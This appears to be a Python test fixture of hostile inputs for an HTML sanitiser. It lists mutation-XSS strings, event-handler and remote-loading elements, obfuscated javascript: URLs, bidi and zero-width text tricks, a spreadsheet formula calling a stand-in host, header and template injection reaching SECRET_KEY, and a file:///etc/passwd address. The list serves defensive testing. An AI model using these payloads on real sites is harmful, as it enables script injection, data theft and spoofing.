"""What someone may send who means harm. Each entry would do something if it were shown as it came.

A script that runs calls `boo()`; what is fetched comes from `EVIL`. A test has to see neither, and
no character of `sanitise.HIDDEN`. The mutations are of the families by which sanitisers on html5lib
were passed before: what is text for one parser is a tag for the next.
"""

EVIL = "https://evil.invalid"
RUN = "boo()"
IMG = f"<img src=x onerror={RUN}>"

MUTATIONS = {
    "noscript with style": f"<noscript><style></noscript>{IMG}",
    "noscript attribute": f'<noscript><p title="</noscript>{IMG}">',
    "noscript in svg": f"<svg><noscript></svg>{IMG}",
    "math glyph style": f"<math><mtext><table><mglyph><style><!--</style>{IMG}-->",
    "math annotation": f'<math><annotation-xml encoding="text/html"><style>{IMG}</style>',
    "math and svg swap": f"<math><mi><svg><style></mi></math>{IMG}</style></svg>",
    "form in form": f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
    "svg style": f"<svg><style>{IMG}</style></svg>",
    "svg p style": f'<svg></p><style><a id="</style>{IMG}">',
    "svg desc": f"<svg><desc><style>{IMG}</style></desc></svg>",
    "svg title": f"<svg><title><style></title>{IMG}</style></svg>",
    "comment that ends early": f"<!--><p>{IMG}-->",
    "comment with bang": f"<!--a--!>{IMG}<!-- -->",
    "comment never closed": f"<!-- {IMG}",
    "cdata": f"<svg><![CDATA[><{IMG[1:]}]]></svg>",
    "processing instruction": f"<?xml version='1.0'?>{IMG}<?php echo 1 ?>",
    "title element": f"<title>&lt;/title&gt;{IMG}</title>",
    "textarea": f"<textarea></textarea>{IMG}</textarea>",
    "xmp": f"<xmp><p title='</xmp>{IMG}'></xmp>",
    "noembed": f"<noembed><p title='</noembed>{IMG}'></noembed>",
    "noframes": f"<noframes><p title='</noframes>{IMG}'></noframes>",
    "plaintext": f"<plaintext>{IMG}",
    "template": f"<template><script>{RUN}</script></template>",
    "select": f"<select><script>{RUN}</script><style>{IMG}</style></select>",
    "table foster": f"<table><style></table>{IMG}</style>",
    "declarative shadow": f"<div><template shadowrootmode=open>{IMG}</template></div>",
    "entities in attribute": f'<a title="&quot;&gt;{IMG}">x</a>',
    "quote in attribute": f"<a href='\"><{IMG[1:]}'>x</a>",
    "backtick": f"<a href=`{EVIL}` onmouseover={RUN}>x</a>",
    "escaped twice": f"&lt;script&gt;{RUN}&lt;/script&gt;&amp;lt;script&amp;gt;",
    "deep": "<b>" * 600 + IMG,
}
ELEMENTS = {
    "script": f"<script>{RUN}</script>",
    "script split": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script with slash": f"<script/x>{RUN}</script/y>",
    "script from elsewhere": f"<script src={EVIL}/x.js></script>",
    "image": IMG,
    "image from elsewhere": f"<img src={EVIL}/x.png srcset='{EVIL}/y.png 2x'>",
    "picture": f"<picture><source srcset='{EVIL}/z.png'><img></picture>",
    "svg onload": f"<svg/onload={RUN}>",
    "svg animate": f"<svg><a><animate attributeName=href values=javascript:{RUN} /></a>",
    "svg use": f"<svg><use href='{EVIL}/x.svg#a'/></svg>",
    "svg foreign": f"<svg><foreignObject>{IMG}</foreignObject></svg>",
    "iframe": f"<iframe src={EVIL}></iframe>",
    "iframe srcdoc": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "object": f"<object data={EVIL}/x.swf></object><embed src={EVIL}/x.swf>",
    "style": f"<style>@import '{EVIL}/x.css';</style>",
    "style attribute": f"<p style='background:url({EVIL}/x.png);position:fixed;inset:0'>x</p>",
    "link": f"<link rel=stylesheet href={EVIL}/x.css><base href={EVIL}>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    "form": f"<form action={EVIL}><input name=p autofocus onfocus={RUN}><button>x</button></form>",
    "video": f"<video src={EVIL}/x.mp4 onerror={RUN} poster={EVIL}/p.png></video>",
    "details": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "event without quotes": f"<p onmouseover={RUN}>x</p><body onload={RUN}>",
    "event with slash": f"<p/onclick={RUN}/x>x</p>",
    "clobbering": "<a id=documentElement name=body>x</a><form id=zoekformulier></form>",
    "htmx": f"<p hx-get='{EVIL}' hx-trigger=load>x</p><p data-hx-on:click='{RUN}'>x</p>",
    "stimulus": f"<p data-controller=w-init data-action='click->w-x#y' hx-on::load={RUN}>x</p>",
    "is attribute": f"<p is=x-y slot=z contenteditable autofocus onfocus={RUN}>x</p>",
}
ADDRESSES = {
    "plain": f"javascript:{RUN}",
    "mixed case": f"JaVaScRiPt:{RUN}",
    "blank before": f" \t\n javascript:{RUN}",
    "tab inside": f"java\tscript:{RUN}",
    "newline as entity": f"java&#10;script:{RUN}",
    "tab as name": f"java&Tab;script:{RUN}",
    "colon as name": f"javascript&colon;{RUN}",
    "colon as number": f"javascript&#58{RUN}",
    "letters as numbers": f"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58{RUN}",
    "letters as hexadecimal": f"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;{RUN}",
    "leading zeros": f"&#0000106avascript:{RUN}",
    "control before": f"\x01javascript:{RUN}",
    "null inside": f"java\x00script:{RUN}",
    "direction inside": f"java\u202escript:{RUN}",
    "direction as number": f"java&#x202e;script:{RUN}",
    "number in a number": f"java&#x20&#x202e;2e;script:{RUN}",
    "no width as name": f"java&ZeroWidthSpace;script:{RUN}",
    "full width colon": f"javascript\uff1a{RUN}",
    "data": f"data:text/html,<script>{RUN}</script>",
    "data in base64": "data:text/html;base64,PHNjcmlwdD5ib28oKTwvc2NyaXB0Pg==",
    "vbscript": f"vbscript:{RUN}",
    "livescript": f"livescript:{RUN}",
    "view source": f"view-source:javascript:{RUN}",
    "feed": f"feed:javascript:{RUN}",
    "blob": "blob:null/1",
    "file": "file:///etc/passwd",
    "jar": f"jar:{EVIL}!/x",
}
TEXTS = {
    "right to left override": "factuur\u202efdp.exe",
    "isolates": "a\u2066b\u2067c\u2068d\u2069e",
    "embedding": "a\u202ab\u202bc\u202cd\u202de",
    "marks": "a\u200eb\u200fc\u061cd",
    "no width": "wo\u200bn\u2060in\ufeffg\u200c",
    "joined letters": "wo\u200dning",
    "tags": "x\U000e0041\U000e0042\U000e007f",
    "null": "a\x00b",
    "controls": "a\x07b\x1b[31mc\x7fd\x9be",
    "overlong utf-8": b"\xc0\xbcscript\xc0\xbe\xe0\x80\xaf\xf0\x80\x80\xbc".decode(
        "utf-8", "replace"
    ),
    "half a pair": "a\ud83db",
    "annotation": "a\ufff9b\ufffac\ufffb",
    "formula": '=HYPERLINK("https://evil.invalid")',
    "formula after blanks": "\t=1+1",
    "header": "Onderwerp\r\nBcc: iemand@example.org",
    "template": "{{ 7|add:7 }}{% debug %}{{ settings.SECRET_KEY }}",
    "script": f"</title></textarea></script><script>{RUN}</script>",
    "in a json script": f"</script><!--<script>{RUN}//",
    "attribute": f"\" autofocus onfocus={RUN} x='",
}

LINKS = {f"link, {name}": f'<a href="{address}">x</a>' for name, address in ADDRESSES.items()}
# HTML by what it tries.
MARKUP = {**MUTATIONS, **ELEMENTS, **LINKS}
EVERYTHING = {**MARKUP, **TEXTS}
